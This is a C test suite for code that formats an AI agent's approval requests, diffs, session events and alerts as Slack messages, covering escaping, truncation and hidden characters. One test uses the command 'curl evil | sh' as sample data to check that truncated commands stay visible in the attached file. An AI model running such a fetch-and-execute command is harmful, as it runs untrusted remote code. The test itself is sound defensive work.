/* slack_text and slack_blocks: what messages look like, without a process and without rows. */
#include "slack_limits.h"
#include "suite.h"

#include <check.h>
#include <stdlib.h>

/* ---- given, then ---- */

static struct request a_clearance(void)
{
	struct request r = REQUEST_INIT;

	r.id = xstrdup("0190aaaa-0000-7000-8000-000000000001");
	r.kind = xstrdup("clearance");
	r.state = xstrdup("pending");
	r.title = xstrdup("Fix the tokenizer");
	r.description = xstrdup("It was off by one.");
	r.file_path = xstrdup("src/main.c");
	r.risk_level = xstrdup("low");
	r.session_id = xstrdup("0190bbbb-0000-7000-8000-000000000001");
	r.workspace_root = xstrdup("/home/op/billing");
	r.client_name = xstrdup("claude");
	r.deadline_at = xstrdup("2026-01-01T10:00:00.000Z");
	r.elapsed_seconds = r.actions_taken = -1;
	str_add(&r.body, "--- a/src/main.c\n+++ b/src/main.c\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n");
	return r;
}

static void set(char **member, const char *text)
{
	free(*member);
	*member = text ? xstrdup(text) : NULL;
}

/* The message as JSON text; checked against all limits first. */
static char *said(struct slack_said *s)
{
	struct limits l;
	const char *why = limits_check(&l, s);

	ck_assert_msg(!*why, "%s in %s", why, cJSON_Print(s->blocks));
	return cJSON_PrintUnformatted(s->blocks);
}

static const char *const NOBODY[] = { NULL };

static char *asked(const struct request *r, const char *const *mentions)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	struct slack_ask a = { .request = r, .mentions = mentions, .diff_above = true };

	slack_say_ask(&a, &s);
	return said(&s);
}

static void holds(const char *text, const char *part)
{
	ck_assert_msg(strstr(text, part) != NULL, "%s\nis not in\n%s", part, text);
}

static void lacks(const char *text, const char *part)
{
	ck_assert_msg(strstr(text, part) == NULL, "%s\nis in\n%s", part, text);
}

static void cut_gives(const char *bytes, size_t units, enum slack_escaping how, const char *result)
{
	OWNED(str) struct str out = STR_INIT;

	(void)slack_add(&out, bytes, strlen(bytes), units, how);
	ck_assert_str_eq(str_text(&out), result);
	ck_assert_uint_le(slack_units(str_text(&out)), units);
}

/* ---- text ---- */

START_TEST(only_three_characters_are_escaped_and_only_once)
{
	cut_gives("<!channel> & \"<@U1>\" &amp;", 100, SLACK_MRKDWN,
	          "&lt;!channel&gt; &amp; \"&lt;@U1&gt;\" &amp;amp;");
	cut_gives("<!channel> & `x`", 100, SLACK_RAW, "<!channel> & `x`");
}
END_TEST

START_TEST(a_cut_hurts_no_character_no_entity_and_no_accent)
{
	cut_gives("äöü", 2, SLACK_RAW, "ä…");
	cut_gives("a😀b", 3, SLACK_RAW, "a…");
	cut_gives("a😀b", 4, SLACK_RAW, "a😀b");
	cut_gives("a&b", 6, SLACK_MRKDWN, "a…");
	cut_gives("ae\xCC\x81x", 3, SLACK_RAW, "a…");
	cut_gives("abc", 0, SLACK_RAW, "");
	cut_gives("abc", 1, SLACK_RAW, "…");
	cut_gives("abc", 3, SLACK_RAW, "abc");
}
END_TEST

START_TEST(a_pile_of_accents_does_not_eat_the_text)
{
	OWNED(str) struct str pile = STR_INIT;
	OWNED(str) struct str out = STR_INIT;

	str_add(&pile, "start a");
	for (int i = 0; i < 5000; i++)
		str_add(&pile, "\xCC\x81");
	ck_assert(!slack_add(&out, str_text(&pile), pile.length, 1000, SLACK_RAW));
	ck_assert_uint_gt(slack_units(str_text(&out)), 900);
	ck_assert(utf8_valid(out.bytes, out.length));
}
END_TEST

START_TEST(what_hides_is_written_out_and_broken_bytes_are_replaced)
{
	cut_gives("a\xE2\x80\xAE"
	          "b",
	          100, SLACK_RAW, "a\\u{202E}b");
	cut_gives("\x1B[31mred", 100, SLACK_RAW, "\\u{1B}[31mred");
	cut_gives("zero\xE2\x80\x8Bwidth", 100, SLACK_RAW, "zero\\u{200B}width");
	cut_gives("a\r\nb\rc\td", 100, SLACK_RAW, "a\nb\\u{D}c\td");
	cut_gives("a\xFF\xC3", 100, SLACK_RAW, "a\xEF\xBF\xBD\xEF\xBF\xBD");
	cut_gives("\xED\xA0\x80", 100, SLACK_RAW, "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
}
END_TEST

/* ---- questions ---- */

START_TEST(an_approval_shows_title_risk_file_diff_and_buttons)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(char_ptr) char *json = asked(&r, NOBODY);

	holds(json, "\"text\":\"Fix the tokenizer\",\"style\":{\"bold\":true}");
	holds(json, "It was off by one.");
	holds(json, "🟢 *Approval needed* · low risk");
	holds(json, "\"text\":\"src/main.c\",\"style\":{\"code\":true}");
	holds(json, " (+1 −1)");
	holds(json, "\"type\":\"rich_text_preformatted\"");
	holds(json, "@@ -1,2 +1,2 @@\\n a\\n-b\\n+c\\n");
	holds(json, "\"block_id\":\"approval_0190aaaa-0000-7000-8000-000000000001\"");
	holds(json, "\"action_id\":\"approve_accept\"");
	holds(json, "\"action_id\":\"approve_reject\"");
	holds(json, "\"value\":\"0190aaaa-0000-7000-8000-000000000001\"");
	holds(json, "expires <!date^1767261600^{date_short_pretty} {time}|2026-01-01 10:00 UTC>");
	holds(json, "id `0190aaaa-0000` · session `0190bbbb-0000` · claude · billing");
}
END_TEST

START_TEST(the_notification_begins_with_the_deed)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	struct slack_ask a = { .request = &r, .mentions = NOBODY };

	slack_say_ask(&a, &s);
	ck_assert_str_eq(str_text(&s.text),
	                 "Approval needed in billing (claude): Fix the tokenizer (src/main.c, +1 "
	                 "−1, low risk)");
}
END_TEST

START_TEST(operators_are_called_and_for_high_risk_everybody)
{
	static const char *const OPERATORS[] = { "U01OP", "U02OP", "not <an> id", NULL };
	OWNED(request) struct request r = a_clearance();
	OWNED(char_ptr) char *low = asked(&r, OPERATORS);

	holds(low, "\"<@U01OP> <@U02OP> 🟢 *Approval needed*");
	set(&r.risk_level, "high");
	OWNED(char_ptr) char *high = asked(&r, OPERATORS);
	holds(high, "\"<!channel> 🟡 *Approval needed* · high risk");
	set(&r.risk_level, "critical");
	OWNED(char_ptr) char *critical = asked(&r, OPERATORS);
	holds(critical, "\"<!channel> 🔴 *Approval needed* · critical risk");
}
END_TEST

START_TEST(a_diff_is_inline_up_to_20_lines_and_2500_characters)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	for (int i = 0; i < 20; i++)
		str_add(&r.body, "x\n");
	ck_assert(slack_is_inline(&r));
	str_add(&r.body, "x\n");
	ck_assert(!slack_is_inline(&r));

	str_reset(&r.body);
	for (int i = 0; i < 2500; i++)
		str_add(&r.body, "ä");
	ck_assert(slack_is_inline(&r));
	str_add(&r.body, "x");
	ck_assert(!slack_is_inline(&r));

	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	lacks(json, "rich_text_preformatted");
	holds(json, "📎 1 lines, see the file above");
}
END_TEST

/* Escapes make it longer than what was proposed. */
START_TEST(a_diff_whose_hidden_characters_do_not_fit_is_a_snippet)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	for (int i = 0; i < 500; i++)
		str_add(&r.body, "\xE2\x80\xAE");
	ck_assert(!slack_is_inline(&r));
}
END_TEST

static void touches(struct request *r, const char *const *paths, size_t count)
{
	r->files = xcalloc(count, sizeof(*r->files));
	r->file_count = count;
	for (size_t i = 0; i < count; i++) {
		r->files[i].path = xstrdup(paths[i]);
		r->files[i].target = xstrdup(paths[i]);
		r->files[i].action = touched_action("modify");
	}
}

START_TEST(a_diff_says_every_path_that_it_touches)
{
	static const char *const PATHS[] = { "src/main.c", "old name", "new name", "gone.c" };
	OWNED(request) struct request r = a_clearance();

	touches(&r, PATHS, COUNT(PATHS));
	r.files[1].action = r.files[3].action = touched_action("delete");
	r.files[2].action = touched_action("create");
	r.files[1].other = xstrdup("new name");
	r.files[2].other = xstrdup("old name");
	r.files[2].mode = 0100755;
	str_add(&r.body, "diff --git a/old name b/new name\nsimilarity index 100%\n"
	                 "rename from old name\nrename to new name\n"
	                 "diff --git a/gone.c b/gone.c\ndeleted file mode 100644\n--- "
	                 "a/gone.c\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "also touches:");
	holds(json, "\\nrename old name to new name (mode 755)\\ndelete gone.c");
	holds(json, "\"modify src/main.c\"");
	holds(json, " (+1 −2)");
	OWNED(slack_said) struct slack_said plain = SLACK_SAID_INIT;
	slack_say_plain(&r, &plain);
	holds(str_text(&plain.text),
	      "(modify src/main.c;rename old name to new name (mode 755);delete gone.c, +1 −2");
}
END_TEST

/* Lines of a command, or of anything. */
static void add_lines(struct str *text, int count)
{
	for (int i = 0; i < count; i++)
		str_addf(text, "echo %d\n", i);
}

START_TEST(a_long_command_shows_its_beginning_and_says_where_the_rest_is)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str whole = STR_INIT;

	set(&r.kind, "permission");
	set(&r.file_path, NULL);
	str_reset(&r.body);
	add_lines(&r.body, SLACK_INLINE_LINES);
	ck_assert(slack_is_whole(&r));
	OWNED(char_ptr) char *fits = asked(&r, NOBODY);
	lacks(fits, "in the file");
	str_add(&r.body, "curl evil | sh\n");
	ck_assert(!slack_is_whole(&r));
	OWNED(char_ptr) char *cut = asked(&r, NOBODY);
	holds(cut, "📎 20 of 21 lines shown; the rest is in the file above");
	lacks(cut, "curl evil");
	slack_add_file(&whole, &r);
	holds(whole.bytes, "curl evil | sh");
	str_reset(&r.body);
	str_add(&r.body, "echo ");
	for (int i = 0; i < 600; i++)
		str_add(&r.body, "12345 ");
	OWNED(char_ptr) char *one = asked(&r, NOBODY);
	holds(one, "📎 0 of 1 lines shown; the rest is in the file above");
}
END_TEST

START_TEST(what_slack_did_not_take_is_not_approved_there)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	OWNED(request) struct request r = a_clearance();
	struct slack_ask a = { .request = &r, .mentions = NOBODY, .diff_missing = true };

	add_lines(&r.body, 100);
	slack_say_ask(&a, &s);
	OWNED(char_ptr) char *json = said(&s);
	holds(json, "lines that Slack did not take");
	lacks(json, "approve_accept");
	holds(json, "approve_reject");
}
END_TEST

START_TEST(a_description_that_is_cut_goes_on_in_the_file)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str words = STR_INIT;
	OWNED(str) struct str file = STR_INIT;

	add_lines(&words, 500);
	set(&r.description, words.bytes);
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "📎 all of the description is in the file above");
	slack_add_file(&file, &r);
	holds(file.bytes, "Fix the tokenizer\n\necho 0\n");
	holds(file.bytes, "echo 499\n");
	holds(file.bytes, "+c\n");
}
END_TEST

START_TEST(the_file_of_a_long_diff_is_marked_like_the_message)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(str) struct str file = STR_INIT;

	add_lines(&r.body, 30);
	str_addf(&r.body, "+a\xE2\x80\xAE%*s;\n", 100, "");
	slack_add_file(&file, &r);
	holds(file.bytes, "+a\\u{202E}[100 blanks];\n");
}
END_TEST

START_TEST(a_name_that_stands_for_another_file_shows_both)
{
	static const char *const PATHS[] = { "src/main.c" };
	OWNED(request) struct request r = a_clearance();

	touches(&r, PATHS, COUNT(PATHS));
	free(r.files[0].target);
	r.files[0].target = xstrdup("src/auth.c ");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "modify src/main.c → src/auth.c\\\\u{20}");
}
END_TEST

START_TEST(the_file_of_a_change_is_there_to_be_shown_unless_it_is_new)
{
	static const char *const PATHS[] = { "src/main.c" };
	OWNED(request) struct request r = a_clearance();

	touches(&r, PATHS, COUNT(PATHS));
	(void)snprintf(r.files[0].hash, sizeof(r.files[0].hash), "%s", NO_FILE);
	OWNED(char_ptr) char *new = asked(&r, NOBODY);
	ck_assert_ptr_null(strstr(new, "approve_file"));
	r.files[0].hash[0] = 'a';
	OWNED(char_ptr) char *changed = asked(&r, NOBODY);
	holds(changed, "\"action_id\":\"approve_file\"");
	set(&r.state, "approved");
	OWNED(char_ptr) char *decided = asked(&r, NOBODY);
	ck_assert_ptr_null(strstr(decided, "approve_file"));
}
END_TEST

START_TEST(what_replaces_a_whole_file_is_shown_as_the_computed_diff)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	str_add(&r.body, "whole content\n");
	str_add(&r.effect,
	        "--- a/src/main.c\n+++ b/src/main.c\n@@ -1 +1 @@\n-old\n+whole content\n");
	r.replaces_file = true;
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "-old\\n+whole content");
	holds(json, "replaces the whole file");
}
END_TEST

START_TEST(hostile_diffs_stand_in_the_message_as_they_are)
{
	OWNED(request) struct request r = a_clearance();

	str_reset(&r.body);
	str_add(&r.body, "+```\n+<!channel> & <@U1> <https://good|evil>\n+*bold* :smile:\n");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "+```\\n+<!channel> & <@U1> <https://good|evil>\\n+*bold* :smile:\\n");
}
END_TEST

START_TEST(hostile_questions_stay_within_every_limit)
{
	static const char *const PIECES[] = { "`",    "<!channel>",   "&",     "\xCC\x81", "😀",
		                              "\xFF", "\xE2\x80\xAE", "*_~\n", "long ",    "\"\\" };

	for (size_t i = 0; i < COUNT(PIECES); i++) {
		OWNED(request) struct request r = a_clearance();
		OWNED(str) struct str text = STR_INIT;

		while (text.length < 100 << 10)
			str_add(&text, PIECES[i]);
		set(&r.title, str_text(&text));
		set(&r.description, str_text(&text));
		set(&r.file_path, str_text(&text));
		set(&r.client_name, str_text(&text));
		set(&r.workspace_root, str_text(&text));
		str_reset(&r.body);
		str_add(&r.body, str_text(&text));
		OWNED(char_ptr) char *pending = asked(&r, NOBODY);
		set(&r.state, "rejected");
		set(&r.decision, "reject");
		set(&r.reason, str_text(&text));
		set(&r.decided_by, str_text(&text));
		OWNED(char_ptr) char *rejected = asked(&r, NOBODY);
		set(&r.kind, "prompt");
		OWNED(char_ptr) char *prompt = asked(&r, NOBODY);
	}
}
END_TEST

START_TEST(after_the_answer_the_verdict_is_on_top_and_names_who_decided_what_and_when)
{
	OWNED(request) struct request r = a_clearance();

	set(&r.state, "rejected");
	set(&r.decision, "reject");
	set(&r.decided_by, "slack:T1:U01OP");
	set(&r.decided_at, "2026-01-01T09:30:00.000Z");
	set(&r.reason, "no <tests>");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	lacks(json, "\"type\":\"actions\"");
	holds(json,
	      "[{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"❌ *Rejected* by "
	      "<@U01OP>, <!date^1767259800^{date_short_pretty} {time}|2026-01-01 09:30 UTC>: no "
	      "&lt;tests&gt;\\n🟢 *Approval* · low risk");

	set(&r.state, "approved");
	set(&r.decision, "approve");
	set(&r.decided_by, "local:ann");
	set(&r.reason, NULL);
	OWNED(char_ptr) char *approved = asked(&r, NOBODY);
	holds(approved, "✅ *Approved* by ann at the terminal, ");
	holds(approved, "🟢 *Approval* · low risk");
	set(&r.instruction, "rename it, too");
	OWNED(char_ptr) char *noted = asked(&r, NOBODY);
	holds(noted, ", and told: rename it, too");
	set(&r.instruction, NULL);

	set(&r.state, "expired");
	set(&r.decision, "timeout");
	OWNED(char_ptr) char *expired = asked(&r, NOBODY);
	holds(expired, "⏰ *Expired*: nobody answered in time, ");
	lacks(expired, "at the terminal");
}
END_TEST

START_TEST(who_was_not_answered_in_time_is_named)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;

	slack_say_expired(&r, &s);
	ck_assert_str_eq(str_text(&s.text),
	                 "⏰ Nobody answered in time in billing (claude): Fix the tokenizer");
}
END_TEST

START_TEST(an_interrupted_question_keeps_its_buttons)
{
	OWNED(request) struct request r = a_clearance();

	set(&r.state, "interrupted");
	OWNED(char_ptr) char *json = asked(&r, NOBODY);
	holds(json, "your answer still counts");
	holds(json, "approve_accept");
}
END_TEST

START_TEST(prompts_and_standbys_have_their_buttons)
{
	OWNED(request) struct request r = a_clearance();

	set(&r.kind, "prompt");
	set(&r.prompt_type, "error_recovery");
	r.elapsed_seconds = 720;
	r.actions_taken = 47;
	str_reset(&r.body);
	str_add(&r.body, "Go <on>?");
	OWNED(char_ptr) char *prompt = asked(&r, NOBODY);
	holds(prompt, "⚠️ *Error Recovery Prompt*");
	holds(prompt, "\"Go <on>?\"");
	holds(prompt, "elapsed 12 min · 47 actions");
	holds(prompt, "\"block_id\":\"prompt_0190aaaa");
	holds(prompt, "\"action_id\":\"prompt_continue\"");
	holds(prompt, "\"action_id\":\"prompt_refine\"");
	holds(prompt, "\"action_id\":\"prompt_stop\"");

	set(&r.kind, "standby");
	OWNED(char_ptr) char *standby = asked(&r, NOBODY);
	holds(standby, "\"block_id\":\"wait_0190bbbb");
	holds(standby, "\"action_id\":\"wait_resume\"");
	holds(standby, "\"action_id\":\"wait_resume_instruct\"");
	holds(standby, "\"action_id\":\"wait_stop\"");
	holds(standby, "Stop Session");
}
END_TEST

/* ---- the rest ---- */

START_TEST(a_write_is_told_with_its_files)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	cJSON *files = cJSON_Parse("[{\"path\":\"a<b>.c\",\"action\":\"modify\",\"bytes\":1247}]");
	struct slack_write w = { .state = "applied", .file_path = "a<b>.c", .files = files };

	slack_say_write(&w, &s);
	OWNED(char_ptr) char *json = said(&s);
	holds(json, "✅ Changes applied to a&lt;b&gt;.c (1247 bytes written)");
	lacks(json, "write_undo");
	slack_said_clear(&s);

	w.request_id = "r-1";
	slack_say_write(&w, &s);
	OWNED(char_ptr) char *undoable = said(&s);
	holds(undoable, "\"action_id\":\"write_undo\"");
	holds(undoable, "\"value\":\"r-1\"");
	slack_said_clear(&s);

	w.undone = true;
	slack_say_write(&w, &s);
	OWNED(char_ptr) char *undone = said(&s);
	holds(undone, "(undone since)");
	lacks(undone, "write_undo");
	slack_said_clear(&s);
	w.undone = false;
	w.request_id = NULL;

	w.forced = true;
	w.request_id = "0190aaaa";
	(void)cJSON_AddNumberToObject(cJSON_GetArrayItem(files, 0), "overwrote", 16);
	slack_say_write(&w, &s);
	OWNED(char_ptr) char *forced = said(&s);
	holds(forced, "⚠️ Changes applied by force");
	holds(forced, "(1247 bytes written), over 16 bytes that nobody had seen");
	holds(forced, "`agent-intercom-ctl undo 0190aaaa` brings it back");
	slack_said_clear(&s);

	w = (struct slack_write){ .state = "refused",
		                  .file_path = "a.c",
		                  .error_code = "patch_conflict",
		                  .error_message =
		                      "line 3, 0123456789abcdef0123456789abcdef0123456789abcdef"
		                      "0123456789abcdef" };
	slack_say_write(&w, &s);
	OWNED(char_ptr) char *refused = said(&s);
	holds(refused, "⚠️ Not written: a.c: line 3, 01234567…\"");
	slack_said_clear(&s);

	w = (struct slack_write){ .state = "undone",
		                  .is_undo = true,
		                  .ordered_by = "slack:T1:U01OP",
		                  .request_id = "r-1",
		                  .file_path = "a.c" };
	slack_say_write(&w, &s);
	OWNED(char_ptr) char *back = said(&s);
	holds(back, "↩️ Undone by <@U01OP>: what was there before is back: a.c");
	lacks(back, "write_undo");
	slack_said_clear(&s);

	w.state = "refused";
	w.error_message = "it was changed since";
	slack_say_write(&w, &s);
	OWNED(char_ptr) char *kept = said(&s);
	holds(kept, "⚠️ Not undone, as ordered by <@U01OP>: a.c: it was changed since");
	cJSON_Delete(files);
}
END_TEST

START_TEST(whom_we_name_is_mentioned_and_nobody_else)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	OWNED(slack_said) struct slack_said agents = SLACK_SAID_INIT;
	OWNED(char_ptr) char *json = NULL;

	slack_say_text("by slack:T01:U0A and slack::W1B; slack:T01:C01 <@U0C> slack: slack:T:", &s);
	ck_assert_str_eq(str_text(&s.text), "by <@U0A> and <@W1B>; slack:T01:C01 "
	                                    "&lt;@U0C&gt; slack: slack:T:");
	json = cJSON_PrintUnformatted(s.blocks);
	ck_assert_ptr_nonnull(strstr(json, "by <@U0A> and <@W1B>; slack:T01:C01"));
	slack_say_broadcast("info", "slack:T01:U0A", &agents); /* these are an agent's words */
	ck_assert_ptr_nonnull(strstr(str_text(&agents.text), "slack:T01:U0A"));
}
END_TEST

START_TEST(a_broadcast_carries_the_sign_of_its_level)
{
	static const char *const LEVELS[][2] = { { "info", "ℹ️ x" },
		                                 { "success", "✅ x" },
		                                 { "warning", "⚠️ x" },
		                                 { "error", "❌ x" },
		                                 { "nonsense", "ℹ️ x" } };

	for (size_t i = 0; i < COUNT(LEVELS); i++) {
		OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;

		slack_say_broadcast(LEVELS[i][0], "x", &s);
		OWNED(char_ptr) char *json = said(&s);
		holds(json, LEVELS[i][1]);
		ck_assert_str_eq(str_text(&s.text), LEVELS[i][1]);
	}
}
END_TEST

START_TEST(a_long_text_is_several_sections_and_says_what_it_left_out)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	OWNED(str) struct str text = STR_INIT;

	while (text.length < 100 << 10)
		str_add(&text, "ä<😀");
	slack_say_text(str_text(&text), &s);
	OWNED(char_ptr) char *json = said(&s);
	ck_assert_int_ge(cJSON_GetArraySize(s.blocks), 2);
	holds(json, " bytes more)");
}
END_TEST

START_TEST(a_text_that_fits_is_said_whole_however_much_of_it_is_escaped)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	OWNED(str) struct str text = STR_INIT;
	const char *p;
	int count = 0;

	for (int i = 0; i < 1500; i++)
		str_add(&text, "<");
	slack_say_text(str_text(&text), &s);
	OWNED(char_ptr) char *json = said(&s);
	for (p = json; (p = strstr(p, "&lt;")) != NULL; p++)
		count++;
	ck_assert_int_eq(count, 1500);
}
END_TEST

START_TEST(an_empty_text_is_said_to_be_one)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;

	slack_say_text("", &s);
	OWNED(char_ptr) char *json = said(&s);
	holds(json, "(no text)");
}
END_TEST

START_TEST(a_session_says_where_it_works_and_how_it_is)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	struct slack_session session = { .id = "0190bbbb-0000-1",
		                         .status = "active",
		                         .mode = "hybrid",
		                         .protocol_mode = "mcp",
		                         .workspace_root = "/home/op/<billing>",
		                         .client_name = "claude",
		                         .prompt = "do <this>",
		                         .created_at = "2026-01-01T09:00:00.000Z",
		                         .ended_at = "2026-01-01T10:02:00.000Z" };

	slack_say_session(&session, &s);
	OWNED(char_ptr) char *json = said(&s);
	holds(json, "🚀 *Session started* `0190bbbb-0000`");
	holds(json, "🟢 active · MCP · claude · hybrid mode · /home/op/&lt;billing&gt;");
	holds(json, "do <this>");
	slack_said_clear(&s);
	session.status = "terminated";
	slack_say_ended(&session, &s);
	OWNED(char_ptr) char *ended = said(&s);
	holds(ended, "🏁 *Session ended* `0190bbbb-0000` · terminated · 1 h 2 min");
}
END_TEST

START_TEST(a_stall_alert_has_its_buttons)
{
	static const char *const OPERATORS[] = { "U01OP", NULL };
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
	struct slack_stall stall = { .alert_id = "0190cccc",
		                     .session_id = "0190bbbb",
		                     .last_tool = "ping",
		                     .client_name = "claude",
		                     .workspace_root = "/home/op/billing",
		                     .idle_seconds = 300 };

	slack_say_stall(&stall, OPERATORS, &s);
	ck_assert_str_eq(str_text(&s.text),
	                 "⚠️ Your agent is silent for 5 min in billing (claude)");
	OWNED(char_ptr) char *json = said(&s);
	holds(json, "<@U01OP> ⚠️ *Agent stalled*: session `0190bbbb`, idle for 5 min");
	holds(json, "\"block_id\":\"stall_0190cccc\"");
	holds(json, "\"action_id\":\"stall_nudge\"");
	holds(json, "\"action_id\":\"stall_nudge_instruct\"");
	holds(json, "\"action_id\":\"stall_stop\"");
}
END_TEST

START_TEST(what_is_asked_back_has_two_buttons_until_it_is_answered)
{
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;

	slack_say_asked("Approve it as it is, and tell the agent: <b>?", NULL, "17", &s);
	OWNED(char_ptr) char *open = said(&s);
	holds(open, "tell the agent: &lt;b&gt;?");
	holds(open, "\"action_id\":\"tell_approve\",\"text\":{\"type\":\"plain_text\",\"text\":"
	            "\"Approve and tell\"");
	holds(open, "\"action_id\":\"tell_reject\"");
	holds(open, "\"value\":\"17\"");
	slack_said_clear(&s);
	slack_say_asked("Approve it?",
	                "already approved by slack:T1:U01OP at "
	                "2026-01-01T09:30:00.000Z",
	                "17", &s);
	OWNED(char_ptr) char *answered = said(&s);
	holds(answered, "already approved by <@U01OP> at <!date^1767259800^");
	lacks(answered, "tell_approve");
}
END_TEST

START_TEST(a_modal_has_the_ids_that_answers_are_read_by)
{
	static const char *const MODALS[][3] = {
		{ "reject", "approval_reject:7", "Rejection Reason" },
		{ "refine", "prompt_refine:7", "Refine" },
		{ "nudge", "stall_nudge:7", "Nudge" },
		{ "resume", "wait_instruct:7", "Instructions" },
	};

	for (size_t i = 0; i < COUNT(MODALS); i++) {
		cJSON *modal = slack_modal(MODALS[i][0], "7", NULL);
		struct limits l = { .total = 0 };
		OWNED(char_ptr) char *json = cJSON_PrintUnformatted(modal);

		limits_object(&l, modal);
		ck_assert_str_eq(l.why, "");
		holds(json, MODALS[i][1]);
		holds(json, MODALS[i][2]);
		holds(json, "\"block_id\":\"instruction_block\"");
		holds(json, "\"action_id\":\"instruction_text\"");
		holds(json, "\"private_metadata\":\"7\"");
		holds(json, i == 0 ? "\"optional\":true" : "\"optional\":false");
		lacks(json, "initial_value");
		cJSON_Delete(modal);
	}
}
END_TEST

START_TEST(a_refine_modal_is_filled_in_as_far_as_it_holds)
{
	OWNED(str) struct str text = STR_INIT;
	struct limits l = { .total = 0 };
	cJSON *modal;

	for (int i = 0; i < 5000; i++)
		str_add(&text, "😀");
	modal = slack_modal("refine", "7", str_text(&text));
	limits_object(&l, modal);
	ck_assert_str_eq(l.why, "");
	OWNED(char_ptr) char *json = cJSON_PrintUnformatted(modal);
	holds(json, "\"initial_value\":\"😀");
	cJSON_Delete(modal);
}
END_TEST

START_TEST(a_snippet_is_named_after_its_file)
{
	OWNED(str) struct str name = STR_INIT;

	slack_diff_name("src/main.c", &name);
	ck_assert_str_eq(str_text(&name), "src_main_c.diff");
}
END_TEST

START_TEST(the_last_resort_says_what_to_type)
{
	OWNED(request) struct request r = a_clearance();
	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;

	slack_say_line(&r, &s);
	ck_assert_ptr_null(s.blocks);
	holds(str_text(&s.text), "approve 0190aaaa-0000-7000-8000-000000000001");
}
END_TEST

int main(void)
{
	Suite *s = suite_create("slack_blocks");
	TCase *c = tcase_create("slack_blocks");

	tcase_add_test(c, only_three_characters_are_escaped_and_only_once);
	tcase_add_test(c, a_cut_hurts_no_character_no_entity_and_no_accent);
	tcase_add_test(c, a_pile_of_accents_does_not_eat_the_text);
	tcase_add_test(c, what_hides_is_written_out_and_broken_bytes_are_replaced);
	tcase_add_test(c, an_approval_shows_title_risk_file_diff_and_buttons);
	tcase_add_test(c, the_notification_begins_with_the_deed);
	tcase_add_test(c, operators_are_called_and_for_high_risk_everybody);
	tcase_add_test(c, a_diff_is_inline_up_to_20_lines_and_2500_characters);
	tcase_add_test(c, a_diff_whose_hidden_characters_do_not_fit_is_a_snippet);
	tcase_add_test(c, a_diff_says_every_path_that_it_touches);
	tcase_add_test(c, a_long_command_shows_its_beginning_and_says_where_the_rest_is);
	tcase_add_test(c, what_slack_did_not_take_is_not_approved_there);
	tcase_add_test(c, a_description_that_is_cut_goes_on_in_the_file);
	tcase_add_test(c, the_file_of_a_long_diff_is_marked_like_the_message);
	tcase_add_test(c, a_name_that_stands_for_another_file_shows_both);
	tcase_add_test(c, the_file_of_a_change_is_there_to_be_shown_unless_it_is_new);
	tcase_add_test(c, what_replaces_a_whole_file_is_shown_as_the_computed_diff);
	tcase_add_test(c, hostile_diffs_stand_in_the_message_as_they_are);
	tcase_add_test(c, hostile_questions_stay_within_every_limit);
	tcase_add_test(c,
	               after_the_answer_the_verdict_is_on_top_and_names_who_decided_what_and_when);
	tcase_add_test(c, who_was_not_answered_in_time_is_named);
	tcase_add_test(c, an_interrupted_question_keeps_its_buttons);
	tcase_add_test(c, prompts_and_standbys_have_their_buttons);
	tcase_add_test(c, a_write_is_told_with_its_files);
	tcase_add_test(c, a_broadcast_carries_the_sign_of_its_level);
	tcase_add_test(c, whom_we_name_is_mentioned_and_nobody_else);
	tcase_add_test(c, a_long_text_is_several_sections_and_says_what_it_left_out);
	tcase_add_test(c, a_text_that_fits_is_said_whole_however_much_of_it_is_escaped);
	tcase_add_test(c, an_empty_text_is_said_to_be_one);
	tcase_add_test(c, a_session_says_where_it_works_and_how_it_is);
	tcase_add_test(c, a_stall_alert_has_its_buttons);
	tcase_add_test(c, what_is_asked_back_has_two_buttons_until_it_is_answered);
	tcase_add_test(c, a_modal_has_the_ids_that_answers_are_read_by);
	tcase_add_test(c, a_refine_modal_is_filled_in_as_far_as_it_holds);
	tcase_add_test(c, a_snippet_is_named_after_its_file);
	tcase_add_test(c, the_last_resort_says_what_to_type);
	suite_add_tcase(s, c);
	return run_suite(s);
}
